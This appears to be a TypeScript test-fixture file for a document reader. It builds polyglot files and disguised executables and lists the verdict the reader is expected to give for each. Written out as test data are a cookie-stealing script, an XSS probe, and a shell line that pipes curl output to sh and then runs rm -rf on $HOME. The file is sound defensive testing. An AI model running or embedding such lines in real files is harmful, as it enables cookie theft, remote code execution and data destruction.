/**
 * Files pretending to be something else (reliability.md section 7 row 7): polyglots that are
 * two formats at once, and executables renamed to .pdf/.docx. The reader only ever sees bytes.
 */
import { buildDocx, buildZip } from "../fixtures.ts";
import { DAMAGED, type HostileCase, seededBytes } from "./corpus-types.ts";
import { concatBytes, latin1, pagePdf } from "./pdf-writer.ts";

const polyglot = "polyglot";
const executable = "executable";

const cvPdf = (): Uint8Array => pagePdf();
const cvDocx = (): Uint8Array => buildDocx(["Jane Doe", "Data Analyst"]);

/** An ELF64 header for x86-64 followed by seeded "code". */
const elf = (): Uint8Array => {
  const header = new Uint8Array(64);
  header.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
  header.set([2, 0, 0x3e, 0, 1, 0, 0, 0], 16);
  return concatBytes([header, seededBytes(1, 8192)]);
};

/** MZ header, the DOS stub text and a PE signature at 0x80. */
const pe = (): Uint8Array => {
  const bytes = new Uint8Array(1024);
  bytes.set(latin1("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"));
  new DataView(bytes.buffer).setUint32(0x3c, 0x80, true);
  bytes.set(latin1("This program cannot be run in DOS mode.\r\r\n$"), 0x4e);
  bytes.set(latin1("PE\x00\x00\x64\x86"), 0x80);
  return concatBytes([bytes, seededBytes(2, 8192)]);
};

const machO = (magic: number[]): Uint8Array => concatBytes([new Uint8Array(magic), seededBytes(3, 8192)]);

export const polyglots: readonly HostileCase[] = [
  {
    family: polyglot,
    name: "valid PDF with a DOCX appended (PDF header first)",
    expect: ["ok", "corrupt"],
    build: () => concatBytes([cvPdf(), cvDocx()]),
  },
  {
    family: polyglot,
    name: "DOCX with a PDF appended after the zip",
    expect: ["ok", "corrupt", "unsupported-type"],
    build: () => concatBytes([cvDocx(), cvPdf()]),
  },
  {
    family: polyglot,
    name: "zip (not a DOCX) with a PDF header in its first KiB",
    expect: ["unsupported-type"],
    build: () =>
      buildZip([
        { name: "a.pdf", data: cvPdf() },
        { name: "payload.sh", data: "#!/bin/sh\nid\n" },
      ]),
  },
  {
    family: polyglot,
    name: "HTML page with a PDF inside its first KiB (readers accept %PDF- there)",
    expect: ["unsupported-type"],
    build: () =>
      concatBytes([
        "<html><body><script>fetch('/steal?c='+document.cookie)</script><!--\n",
        Buffer.from(cvPdf()).toString("latin1").replace("%\xe2\xe3\xcf\xd3\n", ""),
        "--></body></html>\n",
      ]),
  },
  {
    family: polyglot,
    name: "PDF that is also an HTML page with a script",
    expect: DAMAGED,
    build: () =>
      concatBytes([
        "%PDF-1.7\n%<html><script>alert(document.domain)</script>\n",
        Buffer.from(cvPdf())
          .toString("latin1")
          .replace(/^%PDF-1\.7\n/, ""),
      ]),
  },
  {
    family: polyglot,
    name: "JPEG header with a PDF inside its first KiB",
    expect: ["unsupported-type"],
    build: () =>
      concatBytes([
        new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]),
        cvPdf(),
      ]),
  },
  {
    family: polyglot,
    name: "PE executable with a PDF at offset 0x200 (MZ first)",
    expect: ["unsupported-type"],
    build: () => {
      const bytes = pe();
      bytes.set(cvPdf().subarray(0, 300), 0x200);
      return bytes;
    },
  },
  {
    family: polyglot,
    name: "Markdown text that embeds a whole PDF after the first KiB",
    expect: ["ok", "unsupported-type"],
    build: () =>
      concatBytes([
        `# Jane Doe\n\n${"Data analyst. ".repeat(100)}\n\n`,
        Buffer.from(cvPdf()).toString("latin1").replace("%\xe2\xe3\xcf\xd3\n", ""),
      ]),
  },
];

export const executables: readonly HostileCase[] = [
  { family: executable, name: "ELF x86-64 binary", expect: ["unsupported-type"], build: elf },
  { family: executable, name: "Windows PE/MZ binary", expect: ["unsupported-type"], build: pe },
  {
    family: executable,
    name: "Mach-O 64-bit binary",
    expect: ["unsupported-type"],
    build: () => machO([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]),
  },
  {
    family: executable,
    name: "Mach-O universal (fat) binary",
    expect: ["unsupported-type"],
    build: () => machO([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]),
  },
  {
    family: executable,
    name: "shell script named .pdf (text: read, never run)",
    expect: ["ok", "unsupported-type"],
    build: () => latin1(`#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\nrm -rf "$HOME"\n`),
  },
  {
    family: executable,
    name: "WebAssembly module",
    expect: ["unsupported-type"],
    build: () => concatBytes([new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), seededBytes(4, 512)]),
  },
  {
    family: executable,
    name: "Java archive (zip without word/document.xml)",
    expect: ["unsupported-type"],
    build: () =>
      buildZip([
        { name: "META-INF/MANIFEST.MF", data: "Main-Class: Evil\n" },
        { name: "Evil.class", data: new Uint8Array([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]) },
      ]),
  },
  {
    family: executable,
    name: "legacy Word .doc (OLE2 compound file)",
    expect: ["unsupported-type"],
    build: () =>
      concatBytes([new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), seededBytes(5, 4096)]),
  },
  {
    family: executable,
    name: "gzip archive",
    expect: ["unsupported-type"],
    build: () => concatBytes([new Uint8Array([0x1f, 0x8b, 8, 0]), seededBytes(6, 1024)]),
  },
];
